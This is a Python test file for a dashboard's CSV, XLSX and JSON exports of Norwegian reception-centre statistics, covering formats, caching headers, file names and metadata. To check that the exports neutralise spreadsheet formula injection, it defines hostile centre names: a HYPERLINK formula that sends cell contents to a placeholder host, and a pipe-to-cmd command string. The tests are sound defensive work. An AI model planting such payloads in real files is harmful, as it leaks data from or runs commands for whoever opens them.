"""Each file as the program that opens it meets it: a Norwegian spreadsheet, pandas, a browser."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from collections.abc import Callable, Iterator
from decimal import Decimal
from typing import Any

import pandas as pd
import pytest
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from sqlalchemy import update

from app import publish_approved
from dashboard import create_app
from dashboard.delimited import guarded
from dashboard.extract import LONG_COLUMNS
from db.models import Centre
from db.office import Office
from db.session import writing
from queries.difference import against_current
from queries.indicators import INDICATORS, TABLES
from tests.queries.ledger import Ledger, ended, open_ledger, participant, report, settled
from tests.queries.properties import given
from tests.queries.reports import CENTRES, half_away, published_figures

EXTENSIONS = ("csv", "long.csv", "xlsx", "json", "long.json", "meta.json")
EVERYTHING = "quarter=2016Q4..2018Q4"
NORWEGIAN_NUMBER = re.compile(rb"-?[0-9]+(,[0-9]+)?")
PLAIN_NUMBER = re.compile(rb"-?[0-9]+(\.[0-9]+)?")
RUNS = tuple("=+-@\t\r\n|%")
"""What a spreadsheet may take for the beginning of a formula, or swallow before one."""

Get = Callable[..., Any]


@pytest.fixture
def get(dashboard: Any) -> Get:
    """Fetches an address of the demonstration data over HTTP."""
    client = dashboard.server.test_client()

    def fetch(address: str, status: int = 200, **headers: str) -> Any:
        answer = client.get(address, headers=headers)
        assert answer.status_code == status, answer.get_data(as_text=True)
        return answer

    return fetch


def raw_fields(content: bytes, separator: bytes) -> Iterator[list[bytes]]:
    """The fields of every line as they stand, with their quotes."""
    quoted = re.compile(rb'"(?:[^"]|"")*"|[^"%s]*' % separator)
    for line in content.removeprefix(b"\xef\xbb\xbf").split(b"\r\n")[:-1]:
        fields, at = [], 0
        while True:
            match = quoted.match(line, at)
            assert match is not None
            fields.append(match[0])
            at = match.end()
            if at == len(line):
                break
            assert line[at : at + 1] == separator, line
            at += 1
        yield fields


# --- the CSV as a Norwegian spreadsheet opens it


OF_FEW = ("surveys", "motivation")
"""Tables with a sign for each centre, as none is told apart."""


@pytest.mark.parametrize("table", TABLES)
@pytest.mark.parametrize("form", ["csv", "long.csv"])
def test_a_norwegian_spreadsheet_opens_the_csv_right(table: str, form: str, get: Get) -> None:
    content = get(f"/data/{table}.{form}?{EVERYTHING}&measure=count").data
    assert content.startswith(b"\xef\xbb\xbf")
    assert content.endswith(b"\r\n")
    assert content.count(b"\r\n") == content.count(b"\n") == content.count(b"\r")
    numbers = 0
    for fields in raw_fields(content, b";"):
        for field in fields:
            if field and not field.startswith(b'"'):
                assert NORWEGIAN_NUMBER.fullmatch(field), field
                numbers += 1
    assert numbers > 50


def test_norwegian_letters_come_through(get: Get) -> None:
    text = get("/data/centres.csv").get_data().decode("utf-8-sig")
    assert '"Bodø"' in text
    assert '"Nord-Trøndelag"' in text
    assert "Også ordinært mottak" in text
    assert "Ã" not in text


@pytest.mark.parametrize(
    ("query", "number"),
    [
        ("", rb"(?<=;)[0-9]{4,},[0-9](?=;)"),
        ("&dialect=rfc4180", rb"(?<=,)[0-9]{4,}\.[0-9](?=,)"),
        ("&lang=en", rb"(?<=,)[0-9]{4,}\.[0-9](?=,)"),
    ],
)
def test_thousands_are_not_separated(query: str, number: bytes, get: Get) -> None:
    """Hours of language training pass a thousand; nothing stands between the digits."""
    content = get(f"/data/programme.csv?{EVERYTHING}&measure=count{query}").data
    assert re.search(number, content)
    assert "\u00a0" not in content.decode("utf-8-sig")


@pytest.mark.parametrize("table", ["programme", "settlement", "centres"])
def test_pandas_reads_numbers_as_numbers(table: str, get: Get) -> None:
    quarter = "2018Q4" if table == "outcomes" else "2017Q3"
    content = get(f"/data/{table}.csv?quarter={quarter}").data
    found = pd.read_csv(io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig")
    words = 9 if table == "centres" else 1
    figures = found.columns[words:-1]
    assert len(figures) >= 4
    for column in figures:
        assert pd.api.types.is_numeric_dtype(found[column]), column
    assert list(found["Mottak"]) == [
        *("Oslo", "Larvik", "Kristiansand", "Steinkjer", "Bodø", "Alle mottak"),
    ]


def test_pandas_reads_the_long_form_with_empty_cells_where_nothing_is_shown(get: Get) -> None:
    content = get(f"/data/programme.long.csv?{EVERYTHING}").data
    found = pd.read_csv(
        io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig", keep_default_na=True
    )
    assert list(found.columns) == list(LONG_COLUMNS)
    for column in ("value", "numerator", "denominator", "revision"):
        assert pd.api.types.is_numeric_dtype(found[column])
    assert (found["value"].notna() == (found["status"] == "shown")).all()
    hidden = found[found["status"] != "shown"]
    assert len(hidden) > 0
    assert hidden[["value", "numerator", "denominator"]].isna().all(axis=None)
    shares = found[(found["unit"] == "percent") & (found["status"] == "shown")]
    assert shares["value"].between(0, 100).all()
    exact = 100 * shares["numerator"] / shares["denominator"]
    assert (abs(exact - shares["value"]) < 1e-9).all()


def test_a_column_with_a_sign_keeps_the_sign(get: Get) -> None:
    content = get("/data/programme.csv?quarter=2018Q2").data
    found = pd.read_csv(io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig")
    column = found[found.columns[1]]
    assert column[found["Mottak"] == "Oslo"].tolist() == ["."]
    assert not pd.api.types.is_numeric_dtype(column)


@pytest.mark.parametrize("table", TABLES)
@pytest.mark.parametrize("form", ["csv", "long.csv"])
@pytest.mark.parametrize("language", ["nb", "nn", "en"])
def test_the_plain_dialect_is_rfc_4180(table: str, form: str, language: str, get: Get) -> None:
    query = f"{EVERYTHING}&measure=count&dialect=rfc4180&lang={language}"
    content = get(f"/data/{table}.{form}?{query}").data
    assert not content.startswith(b"\xef\xbb\xbf")
    content.decode("utf-8")
    rows = list(raw_fields(content, b","))
    assert len({len(row) for row in rows}) == 1
    for row in rows:
        for field in row:
            assert not field or field.startswith(b'"') or PLAIN_NUMBER.fullmatch(field), field
    parsed = list(csv.reader(io.StringIO(content.decode(), newline=""), strict=True))
    assert len(parsed) == len(rows)


def test_english_is_written_with_comma_and_point(get: Get) -> None:
    answer = get("/data/programme.csv?quarter=2017Q3&lang=en")
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))
    assert rows[0][0] == "Centre"
    assert rows[-1][0] == "All centres"
    assert rows[0][1].endswith("(percent)")
    assert any("." in cell and Decimal(cell) for cell in rows[-1][1:-1])


def test_the_header_says_what_when_and_in_which_unit(get: Get) -> None:
    text = get("/data/programme.csv?quarter=2017Q2..2017Q3").data.decode("utf-8-sig")
    header = next(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert len(header) == len(set(header))
    assert all(
        re.search(r"\((prosent|timer per uke|avtaler)\), 2017K[23]$", h) for h in header[1:-1]
    )


# --- formulas

anything = st.text(st.characters(exclude_categories=["Cs"]))
dangerous = st.builds(str.__add__, st.sampled_from([*RUNS, "'", "\x00", "＝", "＋"]), anything)


@given(anything | dangerous)
def test_no_text_can_be_run_as_a_formula(text: str) -> None:
    assert not guarded(text).startswith(RUNS)


@given(anything | dangerous)
def test_taking_one_apostrophe_away_gives_the_text_back(text: str) -> None:
    assert guarded(text).removeprefix("'") == text


@given(anything | dangerous, anything | dangerous)
def test_two_texts_never_become_the_same(one: str, other: str) -> None:
    assert (guarded(one) == guarded(other)) == (one == other)


@pytest.mark.parametrize("text", ["", "Bodø", "1804", "12-14", "a=b", " =1", "..", ".", ":"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert guarded(text) == text


EVIL = {
    "oslo": '=HYPERLINK("http://x.example/?"&A1,"Oslo")',
    "larvik": "@SUM(1;2)",
    "kristiansand": "'=1+1",
    "steinkjer": '-2+3|cmd; "x"',
    "bodo": "Bodø\n=1",
}


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Any]:
    """A client of a service whose centres bear names that would be formulas."""
    with open_ledger("sqlite", tmp_path_factory.mktemp("evil")) as ledger:
        _small_quarter(ledger)
        with writing(ledger.engine) as session:
            for code, name in EVIL.items():
                session.execute(update(Centre).where(Centre.code == code).values(name=name))
        with Office(ledger.engine, publish_approved, against_current) as office:
            yield create_app(ledger.door, office).server.test_client()


def _small_quarter(ledger: Ledger) -> None:
    ledger.receive_and_publish(
        *(
            report(
                centre,
                "2017Q3",
                [
                    participant(f"{centre}-1"),
                    settled(f"{centre}-2", "2017-08-15"),
                    ended(f"{centre}-3", "2017-08-16", "kontraktsbrudd"),
                ],
            )
            for centre in CENTRES
        )
    )


@pytest.mark.parametrize("query", ["", "?dialect=rfc4180", "?lang=en"])
@pytest.mark.parametrize("form", ["csv", "long.csv"])
def test_names_that_would_be_formulas_are_neutral_in_a_csv_and_can_be_had_back(
    form: str, query: str, evil: Any
) -> None:
    content = evil.get(f"/data/programme.{form}{query}").data
    text = content.decode("utf-8-sig")
    separator = "," if query else ";"
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=separator, strict=True))
    assert len({len(row) for row in rows}) == 1
    assert not [cell for row in rows for cell in row if cell.startswith(RUNS)]
    at = 0 if form == "csv" else LONG_COLUMNS.index("centre_label")
    names = list(dict.fromkeys(row[at].removeprefix("'") for row in rows[1:]))
    assert names[:-1] == list(EVIL.values())


def test_names_that_would_be_formulas_are_plain_text_in_a_workbook(evil: Any) -> None:
    content = evil.get("/data/programme.xlsx").data
    rows = CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(0).to_python()
    assert [row[0] for row in rows[1:-1]] == list(EVIL.values())
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        sheets = [name for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 3
        for name in sheets:
            assert b"<f>" not in book.read(name)
            assert b"<hyperlink" not in book.read(name)


def test_names_that_would_be_formulas_are_untouched_in_json(evil: Any) -> None:
    data = json.loads(evil.get("/data/programme.json").data)
    labels = data["dimension"]["centre"]["category"]["label"]
    assert {code: labels[code] for code in EVIL} == EVIL


def test_numbers_in_a_workbook_are_numbers(get: Get) -> None:
    content = get("/data/programme.xlsx?quarter=2018Q2").data
    wide, long, notes = (
        CalamineWorkbook.from_filelike(io.BytesIO(content)).get_sheet_by_index(at).to_python()
        for at in range(3)
    )
    for row in wide[1:]:
        assert all(isinstance(cell, float) or cell == "." for cell in row[1:-1])
    assert {cell for row in wide[1:] if row[0] == "Oslo" for cell in row[1:-1]} == {"."}
    at = LONG_COLUMNS.index("value")
    assert all(isinstance(row[at], float) or row[at] == "" for row in long[1:])
    about = dict(row[:2] for row in notes)
    assert about["title"] == "Fulltidsprogram"
    assert "2018" in about["selection"]
    assert about["origins: simulated"]
    assert about["legend: .."] == "ikke rapportert"


# --- addresses, tags and names


@pytest.mark.parametrize("extension", EXTENSIONS)
@pytest.mark.parametrize("table", TABLES)
def test_a_file_has_a_strong_tag_and_is_not_sent_twice(
    table: str, extension: str, get: Get
) -> None:
    address = f"/data/{table}.{extension}?centre=bodo&quarter=2017Q3"
    first = get(address)
    tag = first.headers["ETag"]
    assert re.fullmatch(r'"[^"]+"', tag), "a strong tag"
    assert get(address).headers["ETag"] == tag
    assert get(address).data == first.data
    again = get(address, 304, **{"If-None-Match": tag})
    assert again.data == b""
    assert again.headers["ETag"] == tag
    get(address, 304, **{"If-None-Match": f'"other", {tag}'})
    get(address, 200, **{"If-None-Match": '"other"'})


@pytest.mark.parametrize("encoding", ["gzip", "br", "zstd", "gzip, deflate, br"])
@pytest.mark.parametrize("extension", EXTENSIONS)
def test_a_compressed_file_is_not_sent_twice_either(
    extension: str, encoding: str, get: Get
) -> None:
    address = f"/data/programme.{extension}?quarter=2017Q3"
    accept = {"Accept-Encoding": encoding}
    first = get(address, **accept)
    tag = first.headers["ETag"]
    assert not tag.startswith("W/")
    again = get(address, 304, **accept, **{"If-None-Match": tag})
    assert again.data == b""
    if "Content-Encoding" in first.headers:
        assert "Accept-Encoding" in first.headers["Vary"]
        assert tag != get(address).headers["ETag"], "other bytes, other tag"


def test_other_figures_have_another_tag(get: Get) -> None:
    tags = [
        get(f"/data/programme.csv?{query}").headers["ETag"]
        for query in (
            *("quarter=2017Q3", "quarter=2017Q2", "quarter=2017Q3&centre=bodo"),
            *("quarter=2017Q3&measure=count", "quarter=2017Q3&lang=en"),
            *("quarter=2017Q3&dialect=rfc4180", "quarter=2017Q3&sort=-centre"),
        )
    ]
    assert len(set(tags)) == len(tags)


@pytest.mark.parametrize(
    ("address", "name"),
    [
        ("programme.csv?quarter=2017Q3", "programme_2017K3_publ1.csv"),
        ("programme.csv", "programme_2017K3_publ1.csv"),
        ("settlement.long.csv?quarter=2017Q1..2017Q3", "settlement_2017K1-2017K3_publ1.long.csv"),
        ("centres.xlsx?quarter=2016K4&lang=en", "centres_2016Q4_publ1.xlsx"),
        ("programme.json?quarter=2018Q4&lang=nn", "programme_2018K4_publ1.json"),
        ("programme.meta.json", "programme_2017K3_publ1.meta.json"),
    ],
)
def test_the_file_name_says_table_quarters_and_publication(
    address: str, name: str, get: Get
) -> None:
    disposition = get(f"/data/{address}").headers["Content-Disposition"]
    assert disposition == f'attachment; filename="{name}"'


@pytest.mark.parametrize(
    ("extension", "media_type"),
    [
        ("csv", "text/csv; charset=utf-8"),
        ("long.csv", "text/csv; charset=utf-8"),
        ("xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("json", "application/json"),
        ("long.json", "application/json"),
        ("meta.json", "application/json"),
    ],
)
def test_headers_say_what_a_file_is_and_where_its_figures_come_from(
    extension: str, media_type: str, get: Get
) -> None:
    answer = get(f"/data/programme.{extension}?quarter=2017Q2..2017Q3")
    assert answer.headers["Content-Type"] == media_type
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert re.fullmatch(r"1 [0-9a-f]{64}", answer.headers["X-Publication"])
    assert answer.headers["X-Origins"] == "reconstructed simulated"


@pytest.mark.parametrize(
    ("address", "status", "code"),
    [
        ("nothing.csv", 404, "unknown_table"),
        ("programme", 404, "unknown_extension"),
        ("programme.", 404, "unknown_extension"),
        ("programme.xls", 404, "unknown_extension"),
        ("programme.CSV", 404, "unknown_extension"),
        ("programme.csv.csv", 404, "unknown_extension"),
        ("programme.csv?centre=tromso", 400, "unknown_centre"),
        ("programme.csv?centre=all", 400, "unknown_centre"),
        ("programme.csv?centre=drammen", 400, "unknown_centre"),
        ("programme.csv?quarter=2019Q1", 400, "unknown_quarter"),
        ("programme.csv?quarter=2017", 400, "bad_quarter"),
        ("programme.csv?quarter=2017Q3..2017Q1", 400, "bad_range"),
        ("programme.csv?senter=bodo", 400, "unknown_parameter"),
        ("programme.csv?dialect=excel", 400, "bad_dialect"),
        ("programme.csv?dialect=rfc4180&dialect=rfc4180", 400, "bad_dialect"),
        ("programme.csv?lang=sv", 400, "bad_language"),
        ("programme.csv?sort=nothing", 400, "bad_sort"),
        ("programme.csv?sort=settled~~2017Q3", 400, "bad_sort"),
        ("programme.csv?sort=full_time_share~host~2017Q3", 400, "bad_sort"),
        ("programme.csv?sort=full_time_share~~2017Q2", 400, "bad_sort"),
        ("programme.csv?sort=full_time_share~~2016Q3", 400, "bad_sort"),
        ("programme.csv?measure=antall", 400, "bad_measure"),
    ],
)
def test_what_there_is_no_file_of_is_refused_with_a_code_and_a_sentence(
    address: str, status: int, code: str, get: Get
) -> None:
    for extension in ("csv", "xlsx", "json"):
        answer = get(f"/data/{address}".replace(".csv?", f".{extension}?"), status)
        said = answer.get_json()
        assert said["code"] == code
        assert len(said["message"]) > 20
        assert "Content-Disposition" not in answer.headers


# --- what is said beside the figures


@pytest.mark.parametrize("language", ["nb", "en"])
def test_the_metadata_says_what_the_file_cannot(language: str, get: Get) -> None:
    query = f"centre=bodo&centre=larvik&quarter=2017Q2..2017Q3&lang={language}"
    answer = get(f"/data/settlement.meta.json?{query}")
    about = answer.get_json()
    number, sha = answer.headers["X-Publication"].split()
    assert (about["publication"], about["sha256"]) == (int(number), sha)
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", about["published_at"])
    assert about["audience"] == "internal"
    assert set(about["origins"]) == {"reconstructed", "simulated"}
    assert all(about["origins"].values())
    assert set(about["legend"]) == {"123", ".", "..", ":"}
    assert set(about["definitions"]) == {
        id for id, entry in INDICATORS.items() if entry.section.table == "settlement"
    }
    words = about["selection"]
    assert "Larvik" in words
    assert "Bodø" in words
    assert "Oslo" not in words
    quarters = ("Q2 2017", "Q3 2017") if language == "en" else ("2. kvartal", "3. kvartal 2017")
    assert all(quarter in words for quarter in quarters)
    assert about["address"].startswith("/data/settlement.meta.json?")
    assert about["source"]


def test_the_legend_and_definitions_follow_the_language(get: Get) -> None:
    norwegian = get("/data/programme.meta.json").get_json()
    english = get("/data/programme.meta.json?lang=en").get_json()
    assert norwegian["legend"][".."] == "ikke rapportert"
    assert english["legend"][".."] == "not reported"
    assert norwegian["title"] == "Fulltidsprogram"
    assert english["title"] == "Full-time programme"
    for id, definition in norwegian["definitions"].items():
        assert definition != english["definitions"][id]


def test_json_and_workbook_carry_the_same_metadata(get: Get) -> None:
    query = "centre=bodo&quarter=2017Q3"
    about = get(f"/data/programme.meta.json?{query}").get_json()
    extension = json.loads(get(f"/data/programme.json?{query}").data)["extension"]
    book = CalamineWorkbook.from_filelike(io.BytesIO(get(f"/data/programme.xlsx?{query}").data))
    notes = dict(row[:2] for row in book.get_sheet_by_index(2).to_python())
    for name in ("title", "selection", "published_at", "sha256", "audience", "source"):
        assert about[name] == extension[name] == notes[name]
    assert about["origins"] == extension["origins"]
    assert notes["origins: reconstructed"] == about["origins"]["reconstructed"]


def test_remarks_are_among_the_metadata_and_only_those_that_concern_the_selection(
    evil: Any,
) -> None:
    def remarks(table: str) -> list[str]:
        return list(json.loads(evil.get(f"/data/{table}.meta.json").data)["notes"])

    assert len(remarks("centres")) == 1
    assert "4.1" in remarks("centres")[0]
    assert remarks("programme") == []


def test_reported_figures_are_called_reported(evil: Any) -> None:
    answer = evil.get("/data/programme.csv?lang=en")
    assert answer.headers["X-Origins"] == "reported"
    rows = list(csv.reader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))
    assert {row[-1] for row in rows[1:]} == {"reported"}


# --- the report's own figures, in the file that is sent on


def test_bodo_and_larvik_are_as_published(get: Get) -> None:
    content = get("/data/programme.csv?centre=bodo&centre=larvik&quarter=2017Q3").data
    found = pd.read_csv(io.BytesIO(content), sep=";", decimal=",", encoding="utf-8-sig")
    found = found.set_index("Mottak")
    assert list(found.index) == ["Larvik", "Bodø", "Alle mottak"]
    stated = published_figures()
    stated = stated[stated["source"].isin(["Table 6.1", "Table 6.2", "Table 6.3"])]
    names = {"bodo": "Bodø", "larvik": "Larvik", "all": "Alle mottak"}
    stated = stated[stated["centre"].isin(names)]
    assert len(stated) == 18
    for _, figure in stated.iterrows():
        label = INDICATORS[figure["indicator"]].label.nb
        column = f"{label} (prosent)"
        assert found.loc[names[figure["centre"]], column] == int(figure["value"])
    assert set(found["Opphav"]) == {"rekonstruert"}


def test_the_long_form_holds_what_the_rounded_figures_were_rounded_from(get: Get) -> None:
    content = get("/data/programme.long.csv?centre=bodo&quarter=2017Q3&dialect=rfc4180").data
    rows = pd.read_csv(io.BytesIO(content), keep_default_na=False, dtype=str)
    stated = published_figures()
    stated = stated[stated["source"].isin(["Table 6.1", "Table 6.2", "Table 6.3"])]
    counts = {"full_time_share": ("3", "33"), "agreement_share": ("33", "33")}
    for centre in ("bodo", "all"):
        here = rows[(rows["centre"] == centre) & (rows["category"] == "")].set_index("indicator")
        for _, figure in stated[stated["centre"] == centre].iterrows():
            exact = Decimal(here.loc[figure["indicator"], "value"])
            assert half_away(exact) == int(figure["value"])
    bodo = rows[(rows["centre"] == "bodo") & (rows["category"] == "")].set_index("indicator")
    for id, parts in counts.items():
        assert tuple(bodo.loc[id, ["numerator", "denominator"]]) == parts
